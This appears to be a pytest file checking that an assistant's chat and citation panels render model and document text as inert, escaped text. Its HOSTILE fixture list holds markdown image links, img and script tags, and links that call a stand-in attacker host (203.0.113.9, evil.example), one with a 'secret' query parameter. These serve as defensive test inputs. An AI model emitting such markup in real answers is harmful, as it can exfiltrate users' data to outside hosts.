"""Model and document text reach the chat as inert text: no image, link or tag survives Markdown rendering."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from assistant.ui.render import chat_text, render_citations, render_evidence

HOSTILE = [
    "Le musée compte 42 salles ![x](http://203.0.113.9/leak.png?q=secret) selon le guide [1].",
    'Das Museum <img src="http://203.0.113.9/pixel.gif" alt="x"> hat 42 Säle.',
    "See [the report](https://203.0.113.9/r) or <https://203.0.113.9/a> or http://203.0.113.9/b or www.evil.example",
    "Write to exfil@evil.example <a href='http://203.0.113.9'>here</a> <script>fetch('//203.0.113.9')</script>",
    "A formula $$\\href{http://203.0.113.9}{x}$$ and *emphasis* and `code` and <!-- hidden --> text.",
    "Ref-style ![y][r]\n\n[r]: http://203.0.113.9/ref.png",
]


def _text_of(rendered_html: str) -> str:
    import html

    return html.unescape(re.sub(r"<[^>]+>", "", rendered_html))


@pytest.mark.parametrize("text", HOSTILE)
def test_chat_text_renders_as_the_same_characters_with_no_markup(text):
    md = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    out = md.render(chat_text(text))
    assert "<img" not in out and "<a " not in out and "<script" not in out and "<!--" not in out
    assert "<em>" not in out and "<code>" not in out
    # what the reader sees is what was written
    assert " ".join(_text_of(out).split()) == " ".join(text.split())


def test_plain_answers_are_unchanged():
    assert chat_text("Beijing compte 153 000 stations de base 5G, soit 1,5 fois plus (env.).") == (
        "Beijing compte 153 000 stations de base 5G, soit 1,5 fois plus (env.).")


def test_sources_and_evidence_panels_escape_document_text(fake_settings):
    from assistant.models import Citation

    quote = HOSTILE[1]
    c = Citation(source="a<b>.txt", start=0, end=len(quote), quote=quote, passage=quote, passage_start=0,
                 number=1)
    out = render_citations([c])
    assert "<img" not in out and "&lt;img" in out
    hrefs = re.findall(r"href='([^']*)'", out)
    assert hrefs and all(h.startswith("/doc?") for h in hrefs)  # the corpus viewer is the only link
    assert "<img" not in render_evidence([])
